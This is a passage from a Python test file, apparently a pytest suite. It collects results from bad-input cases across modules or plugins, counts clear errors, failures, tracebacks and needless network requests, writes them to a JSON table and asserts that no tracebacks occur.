                                 "traceback": "Traceback" in output, "requests": len(requests), "local": True,
                                 "msg": next((line.strip() for line in proc.stderr.splitlines() if option in line),
                                             proc.stderr.strip()[-400:]), "problems": problems}
    assert not problems, "%s: %s\n%s" % (label, "; ".join(problems), proc.stderr)


def test_figures(sim):
    """Every case (run here if it was deselected), then the table and the figures."""
    rows = [outcome(sim, case).row() for case in CASES] + [INVENTORY_OUTCOMES[label] for label in sorted(INVENTORY_OUTCOMES)]
    figures = {
        "cases": len(rows),
        "modules": len(set(row["module"] for row in rows)),
        "clear_error": sum(1 for row in rows if row["clear_error"]),
        "failed": sum(1 for row in rows if row["failed"]),
        "tracebacks": sum(1 for row in rows if row["traceback"]),
        "sent_a_request": sum(1 for row in rows if row["requests"]),
        "sent_a_request_for_a_local_problem": sum(1 for row in rows if row["requests"] and row["local"]),
    }
    if not os.path.isdir(os.path.dirname(OUTPUT)):
        os.makedirs(os.path.dirname(OUTPUT))
    with open(OUTPUT, "w") as f:
        json.dump({"figures": figures, "cases": rows}, f, indent=2, sort_keys=True)
    SUMMARY["bad input"] = [
        "bad input: %(cases)d cases over %(modules)d modules/plugins; %(clear_error)d with a clear error, "
        "%(failed)d failed, %(tracebacks)d tracebacks; %(sent_a_request)d sent a request "
        "(%(sent_a_request_for_a_local_problem)d for a problem known locally)" % figures,
        "table: %s" % os.path.relpath(OUTPUT),
    ]
    assert len(rows) >= 80
    assert figures["tracebacks"] == 0
